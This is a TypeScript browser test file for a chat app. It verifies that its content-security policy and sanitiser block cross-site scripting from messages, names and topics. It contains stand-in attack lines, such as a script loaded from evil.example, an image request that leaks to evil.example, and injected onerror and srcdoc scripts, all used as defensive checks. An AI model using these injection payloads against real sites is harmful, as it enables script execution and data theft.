//! Nothing that people write runs: the corpus as messages, and as the names of everything that has a name.
import { expect } from "vitest";
import { corpus, names } from "../corpus/corpus.ts";
import { elements, events, foreign } from "../corpus/vectors.ts";
import { browser } from "../town/browser.ts";
import type { Person } from "../town/person.ts";
import { story } from "../town/story.ts";
import { Watch } from "../town/watch.ts";

const attempts = corpus();
/** Those that run by being in a document. */
const biting = [...elements, ...events, ...foreign];
/** What the one Markdown renderer may make, and the attributes that each of them may have. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  P: [],
  BR: [],
  STRONG: [],
  EM: [],
  DEL: [],
  CODE: [],
  PRE: ["tabindex"],
  UL: [],
  OL: ["start"],
  LI: [],
  BLOCKQUOTE: [],
  A: ["href", "rel", "target", "class"],
  // Built after the sanitiser: names, highlighted code, and the frame of a code block with its button.
  SPAN: ["class", "data-user"],
  DIV: ["class", "data-language"],
  BUTTON: ["type", "class", "aria-label", "title"],
};
/** The classes that these may have: none comes from a text. */
const CLASSES =
  /^(?:mention|mention mine|channel-name|code-block|code-copy|code-(?:keyword|string|comment|name|added|removed))$/;
const CHANNEL_REFUSED = 422;

/** Puts what is in the document wrong there: elements and attributes of texts, and every link's address. */
async function impurities(person: Person): Promise<string[]> {
  return await person.page.evaluate(
    ([allowed, classes]) => {
      const found: string[] = [];
      for (const node of document.querySelectorAll("[data-row] [id$=-text] *")) {
        const attributes = allowed[node.tagName];
        if (attributes === undefined) found.push(`element: ${node.outerHTML}`);
        for (const { name, value } of node.attributes) {
          const known = attributes?.includes(name) && (name !== "class" || classes.test(value));
          if (!known) found.push(`attribute ${name}: ${node.outerHTML}`);
        }
      }
      for (const node of document.querySelectorAll("*")) {
        for (const { name } of node.attributes) {
          if (name.startsWith("on")) found.push(`handler ${name}: ${node.outerHTML}`);
        }
      }
      const outside =
        "script:not([src]), iframe, object, embed, base, style, frame, form form, math";
      for (const node of document.querySelectorAll(outside))
        found.push(`element: ${node.outerHTML}`);
      for (const link of document.querySelectorAll<HTMLAnchorElement>("a[href]")) {
        const own = link.origin === location.origin;
        const known = /^(https?|mailto):$/.test(link.protocol);
        const fenced = link.rel.includes("noopener") && link.target === "_blank";
        if (!known || !(own || fenced)) found.push(`link: ${link.outerHTML}`);
      }
      return found;
    },
    [ALLOWED, CLASSES] as const,
  );
}

/** Scrolls from the newest message to the first, looking at every page on the way; answers which were seen. */
async function looksAtEverything(person: Person): Promise<Set<number>> {
  const seen = new Set<number>();
  const look = async (): Promise<boolean> => {
    const positions = await person.timeline.evaluate(async (list) => {
      await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
      const rows = [...list.querySelectorAll("[data-row]")];
      // The next look is at what stands above.
      list.scrollTop -= list.clientHeight / 2;
      return rows.map((row) => Number(row.getAttribute("aria-posinset")));
    });
    for (const position of positions) seen.add(position);
    expect(await impurities(person)).toEqual([]);
    return seen.has(1);
  };
  await expect.poll(look, { timeout: 60_000, interval: 1 }).toBe(true);
  return seen;
}

story("the policy of the page lets nothing run that is not its own", async (town) => {
  const answer = await fetch(town.server.direct);
  const policy = answer.headers.get("content-security-policy") ?? "";
  const directives = new Map(
    policy.split(";").map((directive) => {
      const [name = "", ...values] = directive.trim().split(/\s+/);
      return [name, values.join(" ")] as const;
    }),
  );
  expect(directives.get("default-src")).toBe("'none'");
  expect(directives.get("script-src")).toBe("'self'");
  expect(directives.get("style-src")).toBe("'self'");
  expect(directives.get("base-uri")).toBe("'none'");
  expect(directives.get("form-action")).toBe("'none'");
  expect(directives.get("frame-ancestors")).toBe("'none'");
  expect(directives.get("require-trusted-types-for")).toBe("'script'");
  expect(directives.get("trusted-types")).not.toContain("default");
  expect(policy).not.toContain("unsafe");
  expect(answer.headers.get("x-content-type-options")).toBe("nosniff");

  // And the browser holds to it: not even a script of the page itself could do these.
  const [ana] = await town.members("Ana");
  ana.watch.excuses(
    /^policy: /,
    /^console: /,
    /^failed: GET https:\/\/evil\.example/,
    /Content Security/,
  );
  const tries = await ana.page.evaluate(() => {
    const script = document.createElement("script");
    const image = document.createElement("img");
    const frame = document.createElement("iframe");
    const attempted: Record<string, () => unknown> = {
      innerHTML: () => (document.createElement("p").innerHTML = "<b></b>"),
      outerHTML: () => document.write("<b></b>"),
      text: () => (script.text = "__pwned()"),
      src: () => (script.src = "https://evil.example/x.js"),
      handler: () => image.setAttribute("onerror", "__pwned()"),
      srcdoc: () => (frame.srcdoc = "<script>parent.__pwned()</script>"),
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string): void } }
        ).trustedTypes.createPolicy("default"),
    };
    return Object.entries(attempted).filter(([, attempt]) => {
      try {
        attempt();
        return true;
      } catch {
        return false;
      }
    });
  });
  expect(tries.map(([name]) => name)).toEqual([]);
  const leak = await ana.page.evaluate(
    () =>
      new Promise<string>((done) => {
        const image = document.createElement("img");
        image.onload = () => done("loaded");
        image.onerror = () => done("refused");
        image.src = "https://evil.example/leak";
      }),
  );
  expect(leak).toBe("refused");
  expect(ana.line.strayed).toEqual([]);
  await expect
    .poll(() => ana.watch.all.join("\n"))
    .toContain("policy: img-src https://evil.example/leak");
});

story(
  "the corpus bites where nothing guards, so its silence elsewhere means something",
  async (town) => {
    const context = await (await browser()).newContext();
    const trap = new Watch(town.server.origin);
    await trap.over(context);
    // Each attempt is a document of its own and is left only once it has loaded: what fails to load
    // in it has told its handlers by then, however slow the machine is.
    const bare = `${town.server.origin}/bare`;
    await context.route("**", (route) => {
      const { pathname, origin } = new URL(route.request().url());
      const html = origin === town.server.origin ? biting[Number(pathname.slice(6))] : undefined;
      return html === undefined || !pathname.startsWith("/bare/")
        ? route.abort()
        : route.fulfill({ contentType: "text/html", body: html });
    });
    const page = await context.newPage();
    const bit = new Set<number>();
    for (const at of biting.keys()) {
      const before = trap.all.length;
      // One that takes the page elsewhere has bitten as well.
      await page.goto(`${bare}/${at}`, { timeout: 5_000 }).catch(() => undefined);
      if (trap.all.slice(before).some((what) => what.startsWith("script ran"))) bit.add(at);
    }
    expect(bit.size).toBeGreaterThan(biting.length / 3);
    await context.close();
  },
);

story(`${attempts.length} attempts as messages run nothing`, async (town) => {
  expect(attempts.length).toBeGreaterThanOrEqual(500);
  const [ana] = await town.members("Ana");
  const general = await town.channelId("general");
  // Ana looks on while they arrive.
  for (const [at, body] of attempts.entries()) {
    await town.owner.messages.send(general, { nonce: `attempt-${at}`, body });
  }
  await expect
    .poll(async () => Number(await ana.message("").last().getAttribute("aria-posinset")), {
      timeout: 30_000,
    })
    .toBe(attempts.length);
  expect(await looksAtEverything(ana)).toHaveLength(attempts.length);

  // The same once more for somebody who comes later, by the way of the pages of history.
  const ben = await town.member("Ben");
  await ben.timeline.waitFor();
  expect(await looksAtEverything(ben)).toHaveLength(attempts.length);
  const { messages } = await town.owner.messages.list(general, { after_seq: 0, limit: 200 });
  expect(messages.map(({ body }) => body)).toEqual(attempts.slice(0, messages.length));
});

story("attempts as names, topics and workspaces run nothing", async (town) => {
  const [ana, ben] = await town.members("Ana", "Ben");
  const workspace = await town.workspace();
  const general = await town.channelId("general");
  await ben.says("my name is my own");
  await ana.sees("my name is my own");

  for (const name of names(80).slice(0, 60)) {
    await ben.client?.me.update({ name });
    await ana.message("my name is my own").getByText(name, { exact: true }).first().waitFor();
    expect(await impurities(ana)).toEqual([]);
  }
  await ana.button(/^People/).click();
  await ana.button(/^Remove /).waitFor();
  expect(await impurities(ana)).toEqual([]);
  await ana.button("Close").click();

  for (const topic of names(250).slice(0, 60)) {
    await town.owner.channels.update(general, { topic });
    await ana.header.getByText(topic, { exact: true }).waitFor();
    expect(await impurities(ana)).toEqual([]);
  }
  for (const name of names(80).slice(0, 40)) {
    await town.owner.workspaces.update(workspace.id, { name });
    await expect.poll(() => ana.page.title()).toContain(name.replaceAll(/\s+/g, " "));
    expect(await impurities(ana)).toEqual([]);
  }
  // A channel's name is no place for any of this: the server takes none.
  for (const name of names(80)
    .filter((name) => /[^\p{L}\p{N}_.-]/u.test(name))
    .slice(0, 60)) {
    const refused = town.owner.channels.create(workspace.id, { name, kind: "public" });
    await expect(refused, name).rejects.toMatchObject({ status: CHANNEL_REFUSED });
  }
});
